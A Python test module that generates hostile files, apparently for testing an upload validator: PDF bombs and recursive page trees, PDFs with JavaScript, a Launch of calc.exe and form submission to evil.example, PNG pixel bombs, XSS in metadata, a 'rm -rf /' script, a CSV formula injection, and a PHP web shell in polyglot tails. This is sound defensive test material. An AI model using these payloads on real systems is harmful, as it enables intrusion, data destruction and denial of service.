"""Files made to hurt whoever opens them, built here byte by byte. Each names the answers that are right for it."""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from collections.abc import Iterator
from functools import cache
from typing import Final

from PIL import Image, PngImagePlugin
from pypdf import PdfReader, PdfWriter

from tests.accord.evidence.specimens import as_bytes, as_pdf, specimen

TAKEN = "taken"
QUICKLY: Final[dict[str, object]] = {"lossless": True, "method": 0, "quality": 0}
Hostile = tuple[str, bytes, tuple[str, ...]]
PAGE = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] /Contents 4 0 R %s >>"
DRAWING = b"0 0 0 rg 20 20 100 100 re f"


@cache
def hostile_files() -> tuple[Hostile, ...]:
    """Return every file as its name, its bytes and the answers that are right: `taken`, or codes of refusal."""
    return tuple(_hostile_files())


def _hostile_files() -> Iterator[Hostile]:
    yield from _page_trees()
    yield from _streams()
    yield from _active()
    yield from _broken_pictures()
    yield from _bombs()
    yield from _carriers()
    yield from _other_kinds()
    yield from _polyglots()


def written(objects: dict[int, bytes], trailer: bytes = b"") -> bytes:
    """Return a PDF of these objects, with a table that is right."""
    out, places = io.BytesIO(b"%PDF-1.7\n"), {}
    out.seek(0, io.SEEK_END)
    for number, body in objects.items():
        places[number] = out.tell()
        out.write(b"%d 0 obj\n%s\nendobj\n" % (number, body))
    start, count = out.tell(), max(objects) + 1
    out.write(b"xref\n0 %d\n0000000000 65535 f \n" % count)
    out.writelines(b"%010d 00000 n \n" % places.get(number, 0) for number in range(1, count))
    out.write(b"trailer << /Size %d /Root 1 0 R %s >>\nstartxref\n%d\n%%%%EOF" % (count, trailer, start))
    return out.getvalue()


def stream(data: bytes, extra: bytes = b"") -> bytes:
    """Return a stream object's body."""
    return b"<< /Length %d %s >>\nstream\n%s\nendstream" % (len(data), extra, data)


def one_page(page: bytes = b"", catalog: bytes = b"", content: bytes = b"", **others: bytes) -> bytes:
    """Return a PDF of one page; `page` and `catalog` are put into their objects, `o5` and on are further objects."""
    objects = {
        1: b"<< /Type /Catalog /Pages 2 0 R %s >>" % catalog,
        2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        3: PAGE % page,
        4: content or stream(DRAWING),
    }
    return written(objects | {int(name[1:]): body for name, body in others.items()})


def deflated(size: int, times: int = 1) -> bytes:
    """Return `size` blanks deflated, without ever holding them."""
    packer, out = zlib.compressobj(9), bytearray()
    for _block in range(size // 2**20):
        out += packer.compress(b" " * 2**20)
    out += packer.flush()
    return zlib.compress(bytes(out), 9) if times > 1 else bytes(out)


def _page_trees() -> Iterator[Hostile]:
    head = b"<< /Type /Catalog /Pages 2 0 R >>"
    kids = b"<< /Type /Pages /Kids [%s] /Count %d >>"
    leaf = {3: PAGE % b"", 4: stream(DRAWING)}
    yield "no pages", written({1: head, 2: kids % (b"", 0)}), ("damaged",)
    yield "41 pages", as_pdf(*[specimen(2, size=(200, 280))] * 41), ("pages",)
    yield "200,000 kids", written({1: head, 2: kids % (b"3 0 R " * 200_000, 200_000)} | leaf), ("pages",)
    yield "a tree that holds itself", written({1: head, 2: kids % (b"2 0 R", 1)}), ("damaged", "heavy", "pages")
    yield "a count that lies", written({1: head, 2: kids % (b"3 0 R", 2**31 - 1)} | leaf), ("pages", "damaged", TAKEN)
    yield "a count below zero", written({1: head, 2: kids % (b"3 0 R", -5)} | leaf), ("damaged", "pages", TAKEN)
    yield "arrays 100,000 deep", one_page(b"/X " + b"[" * 100_000 + b"]" * 100_000), ("damaged", "heavy", TAKEN)
    for name, box in (("huge", b"0 0 1e9 1e9"), ("negative", b"0 0 -5 -5"), ("empty", b"0 0 0 0")):
        yield f"{name} page", one_page(b"/MediaBox [%s]" % box), ("damaged", "heavy", TAKEN)
    yield "a line for a page", one_page(b"/MediaBox [0 0 14400 1]"), ("damaged", "heavy", TAKEN)
    yield "units of a million", one_page(b"/UserUnit 1000000"), ("damaged", "heavy", TAKEN)


def _streams() -> Iterator[Hostile]:
    filters = b"/Filter [/FlateDecode /FlateDecode]"
    safe = ("damaged", "heavy", TAKEN)
    yield "300 MB of blanks", one_page(content=stream(deflated(300 * 2**20), b"/Filter /FlateDecode")), safe
    yield "1 GB, deflated twice", one_page(content=stream(deflated(2**30, 2), filters)), safe
    big = b"/Type /XObject /Subtype /Image /Width 60000 /Height 60000 /ColorSpace /DeviceRGB /BitsPerComponent 8"
    use = b"/Resources << /XObject << /A 5 0 R >> >>"
    draw = stream(b"200 0 0 200 0 0 cm /A Do")
    flate = big + b" /Filter /FlateDecode"
    yield "a picture of 3.6 gigapixels", one_page(use, content=draw, o5=stream(deflated(2**24), flate)), safe
    form = b"/Type /XObject /Subtype /Form /BBox [0 0 200 200] " + use
    yield "a form that draws itself", one_page(use, content=draw, o5=stream(b"/A Do " * 50, form)), safe
    yield "two million rectangles", one_page(content=stream(b"0 0 190 190 re f\n" * 2**19)), safe
    yield "brackets of states", one_page(content=stream(b"q " * 2**20)), safe
    yield "a length that is itself", one_page(content=b"<< /Length 4 0 R >>\nstream\n\nendstream"), safe
    yield "a million contents", one_page(b"/Contents [%s]" % (b"4 0 R " * 10**6)), safe
    yield "a table that goes back to itself", one_page().replace(b"/Root", b"/Prev 9 /Root"), safe


def _active() -> Iterator[Hostile]:
    script = b"<< /S /JavaScript /JS (app.alert\\(1\\)) >>"
    link = b"/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 200 200] /A << /S /%s >> >>]"
    yield "a script at opening", one_page(catalog=b"/OpenAction " + script), (TAKEN,)
    yield "a script of the page", one_page(b"/AA << /O %s >>" % script), (TAKEN,)
    yield "a program to start", one_page(link % b"Launch /F (calc.exe)"), (TAKEN,)
    yield "a link to follow", one_page(link % b"URI /URI (http://evil.example)"), (TAKEN,)
    yield "a form to send", one_page(link % b"SubmitForm /F (http://evil.example)"), (TAKEN,)
    files = b"/Names << /EmbeddedFiles << /Names [(a.exe) << /Type /Filespec /F (a.exe) /EF << /F 5 0 R >> >>] >> >>"
    yield "a file inside", one_page(catalog=files, o5=stream(b"MZ", b"/Type /EmbeddedFile")), (TAKEN,)
    yield "a form in XML", one_page(catalog=b"/AcroForm << /XFA 5 0 R >>", o5=stream(b"<xdp/>")), (TAKEN,)
    yield "a password to open", _locked("open", "own"), ("locked",)
    yield "a password to change", _locked("", "own"), (TAKEN,)


def _locked(user: str, owner: str) -> bytes:
    writer, out = PdfWriter(PdfReader(io.BytesIO(one_page()))), io.BytesIO()
    writer.encrypt(user, owner, algorithm="AES-256")
    writer.write(out)
    return out.getvalue()


def _broken_pictures() -> Iterator[Hostile]:
    photo, png = as_bytes(specimen(3)), as_bytes(specimen(3), "PNG")
    webp, pdf = as_bytes(specimen(3), "WEBP"), as_pdf(specimen(3))
    for name, data in (("JPEG", photo), ("PNG", png), ("WebP", webp)):
        yield f"half a {name}", data[: len(data) // 2], ("damaged",)
        yield f"the head of a {name}", data[:16], ("damaged",)
    yield "half a PDF", pdf[: len(pdf) // 2], ("damaged", TAKEN)
    yield "a PDF of noise", b"%PDF-1.7\n" + bytes(range(256)) * 400, ("damaged",)
    yield "a PNG with a wrong sum", png[:40] + bytes([png[40] ^ 255]) + png[41:], ("damaged",)
    yield "one pixel", as_bytes(Image.new("RGB", (1, 1)), "PNG"), ("damaged",)
    yield "a chunk of four gigabytes", png[:33] + struct.pack(">I", 2**32 - 1) + png[37:], ("damaged", TAKEN)


def _bombs() -> Iterator[Hostile]:
    yield "60,000 pixels square", bomb(60_000, 60_000), ("pixels",)
    yield "two thousand million wide", bomb(2**31 - 1, 1), ("pixels", "damaged")
    yield "144 megapixels", as_bytes(Image.new("1", (12_000, 12_000)), "PNG"), ("pixels",)
    yield "a JPEG that says 65,000 square", as_bytes(specimen(3)).replace(*_frame(65_000)), ("pixels", "damaged")
    yield "a WebP of 16,383 square", as_bytes(Image.new("RGB", (16_383, 16_383)), "WEBP", **QUICKLY), ("pixels",)
    notes = PngImagePlugin.PngInfo()
    notes.add_text("Comment", "A" * 60 * 2**20, zip=True)
    yield "60 MB of comment", as_bytes(specimen(3), "PNG", pnginfo=notes), ("damaged", "heavy", TAKEN)
    frames = [Image.new("L", (2000, 2000), shade) for shade in range(40)]
    moving = as_bytes(frames[0], "PNG", save_all=True, append_images=frames[1:])
    yield "forty frames", moving, (TAKEN,)


def bomb(width: int, height: int) -> bytes:
    """Return a small PNG that claims this size."""
    chunks = (
        (b"IHDR", struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)),
        (b"IDAT", deflated(2**24)),
        (b"IEND", b""),
    )
    return b"\x89PNG\r\n\x1a\n" + b"".join(
        struct.pack(">I", len(data)) + name + data + struct.pack(">I", zlib.crc32(name + data)) for name, data in chunks
    )


def _frame(side: int) -> tuple[bytes, bytes]:
    """Return the bytes of a JPEG's size as drawn, and as claimed."""
    return struct.pack(">HH", 1980, 1400), struct.pack(">HH", side, side)


def _carriers() -> Iterator[Hostile]:
    exif = Image.Exif()
    exif[0x010E], exif[0x8825] = "<script>alert(1)</script>", {1: "N", 2: (39.0, 54.0, 15.0)}
    yield "where it was taken", as_bytes(specimen(3), exif=exif), (TAKEN,)
    wrong = Image.Exif()
    wrong[0x0112] = 99
    yield "a turn that does not exist", as_bytes(specimen(3), exif=wrong), (TAKEN,)
    yield "a script for a comment", as_bytes(specimen(3), comment=b"<script>alert(1)</script>"), (TAKEN,)
    yield "a profile of noise", as_bytes(specimen(3), icc_profile=b"\x00" * 60_000), (TAKEN,)
    yield "seen through", as_bytes(Image.new("RGBA", (900, 1200), (0, 0, 0, 0)), "PNG"), (TAKEN,)


def _other_kinds() -> Iterator[Hostile]:
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("word/document.xml", b"\0" * 2**24)
    starts = {
        "an archive": packed.getvalue(),
        "a page of HTML": b"<!doctype html><script>alert(1)</script>",
        "an SVG": b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>',
        "a GIF": as_bytes(specimen(3), "GIF"),
        "a BMP": as_bytes(specimen(3), "BMP"),
        "a TIFF": as_bytes(specimen(3), "TIFF"),
        "an EPS": b"%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 9 9\n",
        "a program": b"MZ" + b"\0" * 500,
        "a program of Linux": b"\x7fELF" + b"\0" * 500,
        "a shell script": b"#!/bin/sh\nrm -rf /\n",
        "a Photoshop picture": b"8BPS\0\1" + b"\0" * 500,
        "a table": b"name,amount\n=cmd|' /C calc'!A0,1\n",
        "noise": bytes(range(1, 256)) * 40,
    }
    yield from ((name, data, ("kind",)) for name, data in starts.items())
    yield "an iPhone's photo", b"\0\0\0\x18ftypheic" + b"\0" * 500, ("heif",)
    yield "nothing", b"", ("empty",)
    yield "eleven megabytes", b"\xff\xd8\xff" + b"\0" * 11 * 2**20, ("size",)


def _polyglots() -> Iterator[Hostile]:
    photo, pdf = as_bytes(specimen(3)), one_page()
    tail = b"PK\x03\x04<script>alert(1)</script><?php system($_GET[0]); ?>"
    yield "a photo that is an archive too", photo + tail, (TAKEN,)
    yield "a PNG that is a page too", as_bytes(specimen(3), "PNG") + tail, (TAKEN,)
    yield "a PDF that is an archive too", pdf + tail, (TAKEN,)
    yield "a photo that is a PDF too", photo[:2] + b"\xff\xfe\x00\x0c%PDF-1.7\n" + photo[2:], (TAKEN,)
    yield "a PDF behind a mark", b"\xef\xbb\xbf\r\n" + pdf, (TAKEN, "damaged")
    yield "a PDF behind a program", b"MZ" + pdf, ("kind",)
    yield "a WebP's name on nothing", b"RIFF\xff\xff\xff\xffWEBPVP8X" + b"\xff" * 64, ("damaged", "pixels")
